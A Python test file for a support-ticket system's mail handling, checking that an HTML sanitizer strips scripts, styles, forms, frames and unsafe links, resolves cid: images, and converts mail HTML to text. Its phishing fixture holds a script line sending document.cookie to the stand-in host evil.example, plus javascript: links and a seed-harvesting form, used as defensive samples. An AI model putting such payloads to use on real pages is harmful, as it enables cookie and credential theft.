"""Mail HTML made safe for Beacon's pages (strict CSP), turned into text, cid: images resolved."""

from __future__ import annotations

from tickets.mail.html import html_to_text, referenced_cids, rewrite_cids, sanitize_html

PHISHING_MAIL = """<html><head><title>Beacon Security</title>
<style>body { background: url(https://evil.example/track.png) }</style>
<script>document.location = "https://evil.example/steal?c=" + document.cookie</script></head>
<body onload="steal()">
<p style="color:red" class="alert" onclick="steal()">Your account is <b>frozen</b>.</p>
<a href="javascript:steal()">Unfreeze</a>
<a href="https://beacon.example/help?a=1&b=2" target="_blank">Help centre</a>
<a href="mailto:support@beacon.example">Write to us</a>
<a href="ftp://evil.example/file">Download</a>
<form action="https://evil.example/seed"><input name="seed"><button>Verify</button></form>
<iframe src="https://evil.example/frame"></iframe>
<img src="cid:logo@beacon" alt="Beacon"><img src="https://beacon.example/banner.png">
<img src="data:image/png;base64,AAAA"><img src="tracker.gif">
</body></html>"""


def test_sanitize_removes_code_styles_forms_and_frames():
    safe = sanitize_html(PHISHING_MAIL)

    for forbidden in ("<script", "<style", "style=", "onclick", "onload", "javascript:"):
        assert forbidden not in safe
    for forbidden in ("<form", "<input", "<iframe", "evil.example", "class="):
        assert forbidden not in safe
    assert "steal" not in safe  # script and style contents go too, not only the tags
    assert "Beacon Security" not in safe  # the document <title> is not body text
    assert "Your account is <b>frozen</b>." in safe


def test_sanitize_keeps_web_and_mail_links_with_noopener():
    safe = sanitize_html(PHISHING_MAIL)

    assert '<a href="https://beacon.example/help?a=1&amp;b=2" rel="noopener noreferrer">' in safe
    assert '<a href="mailto:support@beacon.example" rel="noopener noreferrer">' in safe
    assert "ftp:" not in safe


def test_sanitize_keeps_http_and_cid_images_only():
    safe = sanitize_html(PHISHING_MAIL)

    assert 'src="cid:logo@beacon"' in safe
    assert 'src="https://beacon.example/banner.png"' in safe
    assert "data:" not in safe
    assert "tracker.gif" not in safe  # relative to the sender's mailbox: meaningless here


def test_sanitize_empty_input_gives_empty_string():
    assert sanitize_html("") == ""
    assert sanitize_html("  \n") == ""


def test_rewrite_cids_points_images_at_stored_attachments():
    safe = sanitize_html('<p><img src="cid:Logo@Beacon" alt="logo"> <img src="CID:<photo@x>"></p>')

    rewritten = rewrite_cids(safe, {"<logo@beacon>": "/attachments/1/?v=1&s=2", "PHOTO@x": "/a/2/"})

    assert '<img src="/attachments/1/?v=1&amp;s=2" alt="logo">' in rewritten
    assert '<img src="/a/2/">' in rewritten
    assert "cid:" not in rewritten.lower()


def test_rewrite_cids_drops_the_source_of_unknown_ids():
    safe = sanitize_html('<img src="cid:missing@x" alt="gone"><img src="https://x.example/a.png">')

    rewritten = rewrite_cids(safe, {})

    assert rewritten == '<img alt="gone"><img src="https://x.example/a.png">'


def test_referenced_cids_lists_the_images_the_html_shows():
    safe = sanitize_html('<img src="cid:A@x"><img src="cid:&lt;b@y&gt;"><a href="cid:c@z">c</a>')

    assert referenced_cids(safe) == {"a@x", "b@y"}


def test_html_to_text_puts_blocks_on_lines_and_lists_as_dashes():
    html = (
        "<div>Hello,</div><div>my withdrawal is stuck.</div>"
        "<p>Details:</p><ul><li>Coin: USDT</li><li>Network: <b>TRC20</b></li></ul>"
        "Line one<br>Line two"
    )

    assert html_to_text(html) == (
        "Hello,\nmy withdrawal is stuck.\n\nDetails:\n\n- Coin: USDT\n- Network: TRC20\n\n"
        "Line one\nLine two"
    )


def test_html_to_text_skips_head_script_and_style_and_keeps_link_text():
    text = html_to_text(PHISHING_MAIL)

    assert "Beacon Security" not in text
    assert "document.cookie" not in text
    assert "background" not in text
    assert "Help centre" in text
    assert text.startswith("Your account is frozen.")


def test_html_to_text_collapses_blank_lines_and_decodes_entities():
    html = "<p>A &amp; B&nbsp;&lt;ok&gt;</p><br><br><br><br><p>提币未到账</p>"

    assert html_to_text(html) == "A & B <ok>\n\n提币未到账"


def test_html_to_text_keeps_preformatted_indentation():
    assert html_to_text("<pre>  txid:\n    0xabc</pre>") == "  txid:\n    0xabc"
